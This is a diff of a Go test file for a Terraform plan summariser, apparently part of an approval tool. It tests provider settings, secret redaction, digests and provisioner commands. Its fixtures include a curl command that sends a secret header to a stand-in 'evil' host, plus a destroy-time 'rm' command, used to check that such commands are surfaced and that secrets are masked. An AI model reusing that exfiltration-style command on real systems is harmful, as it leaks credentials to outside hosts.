@@ -1,7 +1,10 @@
 package terraform
 
 import (
+	"archive/zip"
+	"bytes"
 	"encoding/json"
+	"errors"
 	"reflect"
 	"strings"
 	"testing"
@@ -11,119 +14,280 @@ import (
 	"github.com/tfpilot/tfpilot/internal/lifecycle"
 )
 
-// providerConfig is how terraform show -json writes the providers of a root, here of one that changes something and one that
-// does not.
+const aws = "registry.terraform.io/hashicorp/aws"
+
+// providerConfig is how terraform show -json writes the providers of a root and of a module, of which one does nothing.
 const providerConfig = `{
-  "aws": {"name": "aws", "full_name": "registry.terraform.io/hashicorp/aws", "version_constraint": ">= 5.0", "expressions": {
-    "region": {"constant_value": "eu-central-1"},
-    "secret_key": {"constant_value": "never-shown"},
-    "profile": {"references": ["var.account", "local.x"]},
-    "assume_role": [{"role_arn": {"constant_value": "arn:aws:iam::111122223333:role/apply"}}]
-  }},
-  "aws.us": {"name": "aws", "alias": "us", "full_name": "registry.terraform.io/hashicorp/aws", "expressions": {"region": {"constant_value": "us-east-1"}}},
-  "module.tfpilot_req_aaaaaaaaaaaaa:aws": {"name": "aws", "full_name": "registry.terraform.io/hashicorp/aws", "module_address": "module.tfpilot_req_aaaaaaaaaaaaa"},
-  "random": {"name": "random", "full_name": "registry.terraform.io/hashicorp/random", "expressions": {"seed": {"constant_value": 1}}}
+  "aws": {"name": "aws", "full_name": "` + aws + `", "version_constraint": ">= 5.0", "expressions": {"region": {"references": ["var.stage"]}}},
+  "aws.us": {"name": "aws", "alias": "us", "full_name": "` + aws + `", "expressions": {"region": {}}},
+  "aws.idle": {"name": "aws", "alias": "idle", "full_name": "` + aws + `", "expressions": {"region": {}}},
+  "module.tfpilot_req_aaaaaaaaaaaaa:aws.own": {"name": "aws", "alias": "own", "full_name": "` + aws + `", "module_address": "module.tfpilot_req_aaaaaaaaaaaaa", "expressions": {"region": {}}}
 }`
 
-func awsPlan(t *testing.T, change func(string) string) *tfjson.Plan {
+var configurations = []string{"aws", "aws.us", "module.tfpilot_req_aaaaaaaaaaaaa:aws.own"}
+
+const rootCode = `
+variable "stage" {}
+variable "password" {}
+locals {
+  account = "111122223333"
+  role    = "arn:aws:iam::${local.account}:role/apply"
+}
+provider "aws" {
+  version    = ">= 5.0"
+  region     = "eu-${var.stage}-1"
+  secret_key = "never-shown"
+  profile    = join("-", ["a", "b"])
+  assume_role {
+    role_arn = local.role
+  }
+  default_tags {
+    tags = { Team = "x", api_token = "never-shown", n = 12345678901234567890 }
+  }
+  ignore_tags = null
+  skip        = true
+}
+provider "aws" {
+  alias  = "us"
+  region = lower("US-EAST-1")
+}
+provider "aws" {
+  alias  = "idle"
+  region = lower("IDLE")
+}
+`
+
+const moduleCode = `
+variable "place" {
+  default = "eu-west-1"
+}
+provider "aws" {
+  alias  = "own"
+  region = "${var.place}"
+}
+`
+
+// awsPlan makes three resources, each by its own configuration.
+func awsPlan(t *testing.T, keys ...string) *tfjson.Plan {
 	t.Helper()
 	plan := planOf(t, "create")
+	third := *plan.ResourceChanges[0]
+	third.Address, third.Name = third.ModuleAddress+".terraform_data.third", "third"
+	plan.ResourceChanges = append(plan.ResourceChanges, &third)
 	plan.Config.ProviderConfigs = nil
-	if err := json.Unmarshal([]byte(change(providerConfig)), &plan.Config.ProviderConfigs); err != nil {
+	if err := json.Unmarshal([]byte(providerConfig), &plan.Config.ProviderConfigs); err != nil {
 		t.Fatal(err)
 	}
-	plan.Variables = map[string]*tfjson.PlanVariable{"account": {Value: "dev"}}
+	plan.Variables = map[string]*tfjson.PlanVariable{"stage": {Value: "central"}, "password": {Value: "never-shown"}}
 	for _, rc := range plan.ResourceChanges {
-		rc.ProviderName = "registry.terraform.io/hashicorp/aws"
+		rc.ProviderName = aws
+	}
+	module := plan.Config.RootModule.ModuleCalls[ModuleCall(mine)].Module
+	module.Resources = append(module.Resources, &tfjson.ConfigResource{Address: "terraform_data.third", Type: "terraform_data", Name: "third"})
+	for i, r := range module.Resources {
+		r.ProviderConfigKey = keys[i]
 	}
 	return plan
 }
 
-func summarized(t *testing.T, plan *tfjson.Plan) *Summary {
+func summarized(t *testing.T, plan *tfjson.Plan, config Config) *Summary {
 	t.Helper()
-	s, err := Summarize(plan, Scope{RequestID: mine, Purpose: lifecycle.PurposeOpen})
+	s, err := Summarize(plan, Scope{RequestID: mine, Purpose: lifecycle.PurposeOpen, Config: config})
 	if err != nil {
 		t.Fatal(err)
 	}
 	return s
 }
 
-func asWritten(text string) string { return text }
+func code(replace ...string) Config {
+	with := strings.NewReplacer(replace...)
+	return Config{"/main.tf": []byte(with.Replace(rootCode)), ModuleCall(mine) + "/main.tf": []byte(with.Replace(moduleCode))}
+}
 
 // Where and as whom something is done belongs to what is approved.
 func TestProviders(t *testing.T) {
-	s := summarized(t, awsPlan(t, asWritten))
-	var lines []string
-	for _, p := range s.Providers {
-		lines = append(lines, p.Line())
-	}
+	s := summarized(t, awsPlan(t, configurations...), code())
 	want := []string{
-		`provider aws: region eu-central-1, assume_role [{"role_arn":"arn:aws:iam::111122223333:role/apply"}], profile {"references":["local.x","var.account"],"values":{"var.account":"dev"}}, secret_key (sens…`,
-		"provider aws.us: region us-east-1",
+		`aws {"assume_role":[{"role_arn":{"expression":"local.role","values":{"local.account":"111122223333","local.role":{"expression":"\"arn:aws:iam::${local.account}:role/apply\""}}}}],` +
+			`"default_tags":[{"tags":{"Team":"x","api_token":"(sensitive value)","n":12345678901234567890}}],"ignore_tags":null,"profile":{"expression":"join(\"-\", [\"a\", \"b\"])"},` +
+			`"region":{"expression":"\"eu-${var.stage}-1\"","values":{"var.stage":"central"}},"secret_key":"(sensitive value)","skip":true}`,
+		`aws.us {"region":{"expression":"lower(\"US-EAST-1\")"}}`,
+		`module.tfpilot_req_aaaaaaaaaaaaa:aws.own {"region":{"expression":"\"${var.place}\"","values":{"var.place":"eu-west-1"}}}`,
 	}
-	if !reflect.DeepEqual(lines, want) {
-		t.Errorf("got\n%s", strings.Join(lines, "\n"))
+	var got []string
+	for _, p := range s.Providers {
+		got = append(got, p.Name+" "+strings.TrimSpace(string(canonical(p.Config))))
 	}
-	if text := s.Text(20); !strings.HasSuffix(text, "\n- provider aws.us: region us-east-1") {
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("got\n%s", strings.Join(got, "\n"))
+	}
+	if text := s.Text(20); !strings.Contains(text, "\n- provider aws.us: region {\"expression\":\"lower(\\\"US-EAST-1\\\")\"}\n") || !strings.Contains(text, ", by provider aws.us\n") {
 		t.Error(text)
 	}
 	if again, err := ParseSummary(s.Bytes()); err != nil || again.Digest() != s.Digest() {
 		t.Errorf("read back: %v", err)
 	}
-	if strings.Contains(string(s.Bytes()), "never-shown") || s.Providers[0].Config["secret_key"] != Hidden {
+	if strings.Contains(string(s.Bytes()), "never-shown") {
 		t.Error("a credential shows")
 	}
+}
+
+func TestProvidersAreApproved(t *testing.T) {
+	all := configurations
+	first := summarized(t, awsPlan(t, all...), code()).Digest()
 	for name, c := range map[string]struct {
 		from, to string
 		differs  bool
 	}{
-		"another region":            {"eu-central-1", "us-east-1", true},
-		"another role":              {"111122223333", "444455556666", true},
-		"another reference":         {"local.x", "local.y", true},
-		"another version":           {">= 5.0", ">= 5.1", false},
-		"another secret":            {"never-shown", "nor-this", false},
-		"the order of what is used": {`"var.account", "local.x"`, `"local.x", "var.account"`, false},
-		"one that does nothing":     {`"seed": {"constant_value": 1}`, `"seed": {"constant_value": 2}`, false},
+		"the text around a reference": {"eu-${", "us-${", true},
+		"the value of a function":     {"US-EAST-1", "US-WEST-1", true},
+		"a local behind a local":      {"111122223333", "444455556666", true},
+		"a role":                      {"role/apply", "role/admin", true},
+		"the default of a module":     {"eu-west-1", "us-west-1", true},
+		"another version":             {">= 5.0", ">= 5.1", false},
+		"another secret":              {"never-shown", "nor-this", false},
+		"one that does nothing":       {"IDLE", "STILL", false},
 	} {
-		other := summarized(t, awsPlan(t, func(text string) string {
-			if !strings.Contains(text, c.from) {
-				t.Fatalf("%s: nothing to change", name)
-			}
-			return strings.Replace(text, c.from, c.to, 1)
-		}))
-		if (other.Digest() != s.Digest()) != c.differs {
-			t.Errorf("%s: digest %s, was %s", name, other.Digest(), s.Digest())
+		if again := summarized(t, awsPlan(t, all...), code(c.from, c.to)).Digest(); (again != first) != c.differs {
+			t.Errorf("%s: digest %s, was %s", name, again, first)
 		}
 	}
-	plan := awsPlan(t, asWritten)
-	plan.Variables["account"].Value = "prod"
-	if summarized(t, plan).Digest() == s.Digest() {
+	plan := awsPlan(t, all...)
+	plan.Variables["stage"].Value = "north"
+	if summarized(t, plan, code()).Digest() == first {
 		t.Error("another value of a variable that the provider uses has the same digest")
+	}
+	if summarized(t, awsPlan(t, all[1], all[0], all[2]), code()).Digest() == first {
+		t.Error("resources that change places between providers have the same digest")
+	}
+	override := code()
+	override["/x_override.tf"] = []byte("provider \"aws\" {\n  alias  = \"us\"\n  region = \"us-gov-1\"\n}\n")
+	if summarized(t, awsPlan(t, all...), override).Digest() == first {
+		t.Error("a region that is overridden has the same digest")
+	}
+	_, err := Summarize(awsPlan(t, all...), Scope{RequestID: mine, Purpose: lifecycle.PurposeOpen, Config: Config{"/main.tf": nil}})
+	if no := (*PlanError)(nil); !errors.As(err, &no) || no.Code != UnsupportedAction {
+		t.Errorf("a configuration that cannot be read: %v", err)
+	}
+}
+
+// commandPlan changes one resource in a module of the request's module, whose provisioners are in the code.
+func commandPlan(actions tfjson.Actions, provisioners int) *tfjson.Plan {
+	plan := secretPlan("s3cr3t-value", map[string]any{})
+	rc := plan.ResourceChanges[0]
+	rc.ModuleAddress, rc.Name = "module."+ModuleCall(mine)+`.module.each["a.b"]`, "b"
+	rc.Address, rc.Change.Actions = rc.ModuleAddress+".a.b", actions
+	if !actions.Create() {
+		rc.Change.Before, rc.Change.BeforeSensitive = rc.Change.After, rc.Change.AfterSensitive
+	}
+	plan.Config.RootModule.ModuleCalls[ModuleCall(mine)].Module = &tfjson.ConfigModule{ModuleCalls: map[string]*tfjson.ModuleCall{"each": {
+		Module: &tfjson.ConfigModule{Resources: []*tfjson.ConfigResource{{Address: "a.b", Type: "a", Name: "b", Provisioners: make([]*tfjson.ConfigProvisioner, provisioners)}}},
+	}}}
+	plan.Variables = map[string]*tfjson.PlanVariable{"host": {Value: "the root's, which is another"}}
+	return plan
+}
+
+func commandCode(replace ...string) Config {
+	with := strings.NewReplacer(replace...)
+	return Config{
+		ModuleCall(mine) + "/main.tf": []byte(with.Replace("locals {\n  h = \"h1\"\n}\nmodule \"each\" {\n  host = \"${local.h}.example\"\n}\n")),
+		ModuleCall(mine) + ".each/main.tf": []byte(with.Replace(`
+variable "host" {}
+resource "a" "b" {
+  connection {
+    host = "c1"
+  }
+  provisioner "local-exec" {
+    command     = "curl ${var.host} --header s3cr3t-value"
+    environment = { DB_PASSWORD = "abc", SELF = self.id }
+  }
+  provisioner "remote-exec" {
+    when   = destroy
+    inline = ["rm ${self.id}"]
+  }
+}
+`)),
 	}
 }
 
 // A command that a provisioner runs beside the plan is shown and approved with it.
 func TestCommands(t *testing.T) {
-	command := func(text string) *tfjson.Plan {
-		plan := secretPlan("s3cr3t-value", map[string]any{})
-		rc := plan.ResourceChanges[0]
-		rc.ModuleAddress, rc.Name = "module."+ModuleCall(mine)+`.module.each["a.b"]`, "b"
-		rc.Address = rc.ModuleAddress + ".a.b"
-		plan.Config.RootModule.ModuleCalls[ModuleCall(mine)].Module = &tfjson.ConfigModule{ModuleCalls: map[string]*tfjson.ModuleCall{"each": {
-			Module: &tfjson.ConfigModule{Resources: []*tfjson.ConfigResource{{Address: "a.b", Provisioners: []*tfjson.ConfigProvisioner{{
-				Type: "local-exec", Expressions: map[string]*tfjson.Expression{"command": {ExpressionData: &tfjson.ExpressionData{ConstantValue: text}}},
-			}}}, {Address: "a.other", Provisioners: []*tfjson.ConfigProvisioner{{Type: "remote-exec"}}}}},
-		}}}
-		return plan
+	s := summarized(t, commandPlan(tfjson.Actions{tfjson.ActionCreate}, 2), commandCode())
+	want := `[{"config":{"command":{"expression":"\"curl ${var.host} --header (sensitive value)\"","values":{"root.tfpilot_req_aaaaaaaaaaaaa: local.h":"h1","var.host":{"expression":"\"${local.h}.example\""}}},` +
+		`"connection of the resource":{"host":"c1"},"environment":{"DB_PASSWORD":"(sensitive value)","SELF":{"expression":"self.id"}}},"type":"local-exec"}]`
+	if got := strings.TrimSpace(string(canonical(s.Changes[0].Commands))); got != want {
+		t.Errorf("got  %s\nwant %s", got, want)
 	}
-	s := summarized(t, command("curl evil --header s3cr3t-value"))
-	if lines := s.Lines(9); len(lines) != 1 || !strings.HasSuffix(lines[0], `; runs local-exec: {"command":"curl evil --header `+Hidden+`"}`) {
+	if lines := s.Lines(9); len(lines) != 1 || !strings.Contains(lines[0], `; runs local-exec: {"command":`) {
 		t.Errorf("got %q", lines)
-	}
-	if summarized(t, command("true")).Digest() == s.Digest() {
-		t.Error("another command has the same digest")
 	}
 	if again, err := ParseSummary(s.Bytes()); err != nil || again.Digest() != s.Digest() {
 		t.Errorf("read back: %v", err)
+	}
+	for _, c := range [][2]string{{"curl", "wget"}, {"h1", "h2"}, {".example", ".evil"}, {"c1", "c2"}} {
+		if summarized(t, commandPlan(tfjson.Actions{tfjson.ActionCreate}, 2), commandCode(c[0], c[1])).Digest() == s.Digest() {
+			t.Errorf("%s for %s has the same digest", c[1], c[0])
+		}
+	}
+	_, err := Summarize(commandPlan(tfjson.Actions{tfjson.ActionCreate}, 3), Scope{RequestID: mine, Purpose: lifecycle.PurposeOpen, Config: commandCode()})
+	if no := (*PlanError)(nil); !errors.As(err, &no) || no.Code != UnsupportedAction {
+		t.Errorf("a command that cannot be read: %v", err)
+	}
+}
+
+// A change is shown the commands that run with it, and no others.
+func TestCommandsRunInTheirTime(t *testing.T) {
+	for name, c := range map[string]struct {
+		actions tfjson.Actions
+		want    []string
+	}{
+		"create":  {tfjson.Actions{tfjson.ActionCreate}, []string{"local-exec"}},
+		"replace": {tfjson.Actions{tfjson.ActionDelete, tfjson.ActionCreate}, []string{"local-exec", "remote-exec"}},
+		"delete":  {tfjson.Actions{tfjson.ActionDelete}, []string{"remote-exec"}},
+		"update":  {tfjson.Actions{tfjson.ActionUpdate}, nil},
+	} {
+		s, err := Summarize(commandPlan(c.actions, 2), Scope{RequestID: mine, Purpose: lifecycle.PurposeEdit, Config: commandCode()})
+		if err != nil {
+			t.Fatal(err)
+		}
+		var got []string
+		for _, one := range s.Changes[0].Commands {
+			got = append(got, one.(map[string]any)["type"].(string))
+		}
+		if !reflect.DeepEqual(got, c.want) {
+			t.Errorf("%s: %v", name, got)
+		}
+	}
+}
+
+// Locals may lead back to each other in what was never planned, and far in what was.
+func TestSettingsEnd(t *testing.T) {
+	config := code("111122223333", "${local.role}")
+	if _, err := Summarize(awsPlan(t, configurations...), Scope{RequestID: mine, Purpose: lifecycle.PurposeOpen, Config: config}); err != nil {
+		t.Error(err)
+	}
+}
+
+func TestReadConfig(t *testing.T) {
+	var file bytes.Buffer
+	archive := zip.NewWriter(&file)
+	for name, text := range map[string]string{"tfplan": "x", "tfconfig/modules.json": "[]", "tfconfig/m-/main.tf": "a", "tfconfig/m-x.in/v.tf": "b", "tfconfig/m-/x.tfvars": "c"} {
+		part, err := archive.Create(name)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if _, err := part.Write([]byte(text)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := archive.Close(); err != nil {
+		t.Fatal(err)
+	}
+	got, err := ReadConfig(file.Bytes())
+	if want := (Config{"/main.tf": []byte("a"), "x.in/v.tf": []byte("b")}); err != nil || !reflect.DeepEqual(got, want) {
+		t.Errorf("got %q, %v", got, err)
+	}
+	if _, err := ReadConfig([]byte("no archive")); err == nil {
+		t.Error("what is no plan file was read")
 	}
 }
